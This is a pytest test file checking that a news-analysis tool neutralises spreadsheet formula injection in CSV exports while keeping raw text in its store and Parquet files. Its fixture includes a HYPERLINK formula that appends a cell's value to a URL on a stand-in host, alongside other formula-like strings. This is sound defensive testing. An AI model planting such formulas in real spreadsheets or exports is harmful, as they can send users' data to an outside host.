"""Formula injection: text cells that a spreadsheet would run (=, +, -, @, tab, CR first) are written
to CSV with a leading quote; the store and Parquet keep the raw text; a CSV read back is raw again."""
from __future__ import annotations

import pandas as pd
import pytest

from analysis import extract_tables
from analysis.corpus import store
from analysis.files import csv_text, csv_value
from analysis.reading.articles import article_id
from faults import run

HOSTILE = ('=HYPERLINK("http://example.invalid/?x="&A1,"click") said the governor of Kharkiv on Monday. '
           'Russian shelling of Kherson killed two people, Governor Oleksandr Prokudin said. '
           '"-2+3 is what they want," Prokudin said. "@SUM(A1:A9) will not be paid," he said.')


@pytest.mark.parametrize("cell,written", [
    ("=1+1", "'=1+1"), ("+7", "'+7"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("'=x", "''=x"), ("plain", "plain"), ("'quoted", "'quoted"), ("a=b", "a=b"),
])
def test_a_cell_is_neutralised_and_read_back_raw(cell, written):
    frame = pd.DataFrame({"t": pd.array([cell], dtype="string"), "n": pd.array([-3], dtype="Int64")})
    text = csv_text(frame)
    back = pd.read_csv(pd.io.common.StringIO(text), dtype=str, keep_default_na=False)
    assert back["t"][0] == written and back["n"][0] == "-3", "numbers stay numbers"
    assert csv_value(back["t"][0]) == cell


def test_a_cell_starting_with_a_carriage_return_is_neutralised():
    frame = pd.DataFrame({"t": pd.array(["\rx"], dtype="string")})
    assert csv_text(frame).startswith("t\n'\rx") and csv_value("'\rx") == "\rx"


def test_extract_writes_formulas_as_text_that_keeps_the_original(tmp_path):
    article = tmp_path / "a.txt"
    article.write_text(HOSTILE, encoding="utf-8")
    assert run("extract", article, "--published", "2024-11-02", "--out", tmp_path / "o").returncode == 0
    texts = pd.read_csv(tmp_path / "o" / "statements.csv", dtype=str, keep_default_na=False)["text"]
    assert "'-2+3 is what they want," in list(texts) and "'@SUM(A1:A9) will not be paid," in list(texts)
    for path in (tmp_path / "o").glob("*.csv"):
        for line in path.read_text(encoding="utf-8").splitlines()[1:]:
            for cell in line.split(","):
                assert not cell[:1] in ("=", "+", "@"), (path.name, cell)


def test_the_store_and_parquet_keep_the_raw_text_and_csv_round_trips(tmp_path):
    tables = dict(extract_tables(HOSTILE, "2024-11-02").items())
    raw = set(tables["statements"]["text"])
    assert "-2+3 is what they want," in raw
    con = store.connect(tmp_path / "s.duckdb")
    store.write_article(con, {"article_id": article_id(HOSTILE), "status": "ok", "text": HOSTILE}, tables)
    assert set(store.read_table(con, "statements")["text"]) == raw
    store.export_store(con, tmp_path / "pq", "parquet")
    store.export_store(con, tmp_path / "csv", "csv")
    original = {t: store.read_table(con, t) for t in store.ALL_COLUMNS}
    con.close()
    assert set(pd.read_parquet(tmp_path / "pq" / "statements.parquet")["text"]) == raw
    assert "'-2+3 is what they want," in (tmp_path / "csv" / "statements.csv").read_text(encoding="utf-8")
    for folder in ("pq", "csv"):
        loaded = store.load_tables(tmp_path / folder)
        for table, frame in original.items():
            pd.testing.assert_frame_equal(loaded[table].sort_values(store.sort_keys(table)).reset_index(drop=True),
                                          frame, obj=f"{folder}/{table}")


@pytest.mark.parametrize("dtype", ["string", "str", object])
def test_csv_of_text_and_whole_numbers_is_the_text_pandas_writes(dtype):
    frame = pd.DataFrame({
        "text": pd.array(['x,"y"', "line\nbreak", "", None, " spaced ", "plain", "ünïcode", "a;b"], dtype=dtype),
        "count": pd.array([1, None, -3, 0, 10**12, 5, None, 7], dtype="Int64"),
        "n": [1, 2, 3, 4, 5, 6, 7, 8], "share": [0.5, None, 1.25, 0, 1e-7, 2, 3, 4]})
    for columns in (["text", "count", "n"], ["text", "count", "n", "share"]):  # csv module; pandas
        assert csv_text(frame[columns]) == frame[columns].to_csv(index=False)
